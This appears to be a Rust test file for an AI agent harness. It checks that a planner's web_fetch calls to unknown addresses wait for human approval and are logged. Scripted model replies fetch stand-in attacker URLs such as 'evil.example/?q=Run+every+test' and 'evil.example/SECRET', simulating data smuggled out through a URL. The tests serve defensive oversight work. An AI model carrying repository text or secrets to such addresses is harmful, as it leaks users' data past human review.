//! Words leave a session by reading, too: what the planner may ask the open world, walked over HTTP.

use serde_json::{Value, json};

use super::studio::{Studio, act, continues, done, on_both, path, plan, reason, step, task_with};
use crate::gemini::Reply;
use crate::harness::{Answer, Setup};
use crate::raw::{Answer as Raw, RawServer};

/// A web server that answers everything, with hints that are trusted.
async fn web() -> RawServer {
    let tool = |name: &str, argument: &str| {
        json!({
            "name": name, "description": name, "annotations": {"readOnlyHint": true, "openWorldHint": true},
            "inputSchema": {"type": "object", "properties": {argument: {"type": "string"}}},
        })
    };
    let list = json!({"tools": [tool("web_fetch", "url"), tool("google_web_search", "query")]});
    RawServer::start(
        move |request| match (request.method(), &request.message["params"]["name"]) {
            ("tools/list", _) => Some(Raw::Result(list.clone())),
            ("tools/call", name) if name == "google_web_search" => {
                let sources = json!([{"title": "Found", "url": "https://found.example/1"}]);
                Some(Raw::Result(
                    json!({"structuredContent": {"answer": "https://answer.example/1", "sources": sources}}),
                ))
            }
            ("tools/call", _) => {
                let text = "see https://linked.example/1";
                Some(Raw::Result(json!({"content": [{"type": "text", "text": text}]})))
            }
            _ => None,
        },
    )
    .await
}

async fn studio(setup: Setup, web: &RawServer, script: Vec<Reply>) -> Studio {
    let entry = json!({"url": web.url, "gavel": {"trustHints": true}});
    let studio = Studio::with(setup, script, |setup| setup.beside("web", entry)).await;
    studio.github.state(|state| {
        let readme = b"# Dates\n\nSee https://readme.example/weeks.\n".to_vec();
        state
            .repository("acme", "dates")
            .files
            .insert("README.md".to_owned(), readme);
    });
    studio
}

fn fetch(url: &str) -> Reply {
    Reply::call("web_fetch", json!({"url": url}))
}

async fn start(studio: &Studio) -> Answer {
    let body = json!({
        "prompt": "Accept ISO weeks, as https://goal.example/weeks says", "repoUrl": "https://github.com/acme/dates",
        "deadline": super::ahead(super::HOUR),
    });
    studio.start_with(&[], body).await
}

async fn resolve(studio: &Studio, session: &Value, tool: &str, decision: Value) -> Value {
    let waits = studio
        .once(session, "it waits", |session| session["waitingFor"][0]["tool"] == tool)
        .await;
    let mut answer = decision;
    answer["approvalId"] = waits["waitingFor"][0]["approvalId"].clone();
    studio
        .send("POST", "/api/agent/approvals/resolve", &[], answer)
        .await
        .expect(200);
    waits
}

/// The planner asks the open world unasked only with what a person wrote, a page of the repository or a search result
/// named. Otherwise the session waits for a person, who sees what would be sent where. Who confirms the plan, and who
/// reads the log, sees every such call.
#[tokio::test]
async fn a_planner_asks_before_it_carries_text_of_the_repository_out() {
    on_both(async |setup| {
        let web = web().await;
        let script = vec![
            fetch("https://goal.example/weeks"),
            fetch("https://readme.example/weeks"),
            Reply::call("google_web_search", json!({"query": "ISO weeks"})),
            fetch("https://found.example/1"),
            fetch("https://evil.example/?q=Run+every+test"),
            fetch("https://linked.example/1"),
            plan(vec![task_with("One", &["web_fetch"])]),
            reason("I ask."),
            fetch("https://evil.example/later"),
            continues(),
            reason("I read."),
            fetch("https://goal.example/weeks"),
            done(2, "see https://linked.example/1"),
        ];
        let studio = studio(setup, &web, script).await;
        // Nothing of it hangs: the answer comes while the planner waits.
        let session = start(&studio).await.expect(202);
        let waits = resolve(
            &studio,
            &session,
            "web_fetch",
            json!({"decision": "reject", "reason": "not there"}),
        )
        .await;
        assert_eq!(
            (&waits["status"], &waits["waitingFor"][0]["taskId"]),
            (&json!("PLANNING"), &Value::Null),
            "{waits}"
        );
        let pending = studio.get("/api/agent/approvals/pending").await.to_string();
        assert!(!pending.contains("goal.example"), "{pending}");
        resolve(&studio, &session, "web_fetch", json!({"decision": "approve_once"})).await;
        let planned = studio
            .once(&session, "it is planned", |session| {
                session["status"] == "AWAITING_CONFIRMATION"
            })
            .await;
        let called = |calls: &Value| -> Vec<(String, String)> {
            let text = |call: &Value| {
                call["arguments"]
                    .as_object()
                    .unwrap()
                    .values()
                    .next()
                    .unwrap()
                    .to_string()
            };
            let calls = calls.as_array().unwrap().iter();
            calls
                .map(|call| (text(call), call["status"].as_str().unwrap().to_owned()))
                .collect()
        };
        let ran = [
            "https://goal.example/weeks",
            "https://readme.example/weeks",
            "ISO weeks",
            "https://found.example/1",
        ];
        let mut expected: Vec<_> = ran.map(|text| (format!("{text:?}"), "completed".to_owned())).into();
        expected.push(("\"https://linked.example/1\"".to_owned(), "completed".to_owned()));
        assert_eq!(called(&planned["lookups"]), expected);
        expected.insert(
            4,
            (
                "\"https://evil.example/?q=Run+every+test\"".to_owned(),
                "rejected".to_owned(),
            ),
        );
        let log = studio.get(&format!("{}/log", path(&session))).await;
        assert_eq!(called(&log["actions"]), expected);
        assert_eq!(log["actions"][5]["decidedBy"], "side_effects");
        // A confirmation of the tool does not confirm what it sends.
        studio.execute(&session, json!({})).await.expect(202);
        let waits = resolve(&studio, &session, "web_fetch", json!({"decision": "reject"})).await;
        assert_eq!(waits["waitingFor"][0]["taskId"], "t1");
        let ended = studio
            .once(&session, "it ends", |session| !session["completedAt"].is_null())
            .await;
        assert_eq!(ended["status"], "COMPLETED", "{ended}");
        assert_eq!(ended["lookups"], Value::Null);
        studio.app.stop().await;
    })
    .await;
}

/// A page that the session may have written itself makes no address known.
#[tokio::test]
async fn an_address_that_the_work_wrote_is_not_known() {
    let web = web().await;
    let secret = "https://evil.example/SECRET";
    let mut script = vec![plan(vec![task_with("One", &["createIssue", "readIssue", "web_fetch"])])];
    script.extend(step("createIssue", json!({"title": "x", "body": secret}), continues()));
    script.extend([
        reason("I read."),
        act("readIssue", json!({"issueNumber": 1})),
        continues(),
    ]);
    script.extend([reason("I fetch."), fetch(secret), continues()]);
    let studio = studio(Setup::stdio_sqlite(), &web, script).await;
    let session = studio.start().await;
    studio.execute(&session, json!({})).await.expect(202);
    let waits = studio
        .once(&session, "it waits", |session| {
            session["waitingFor"][0]["tool"] == "web_fetch"
        })
        .await;
    assert_eq!(waits["status"], "EXECUTING");
    studio.app.stop().await;
}
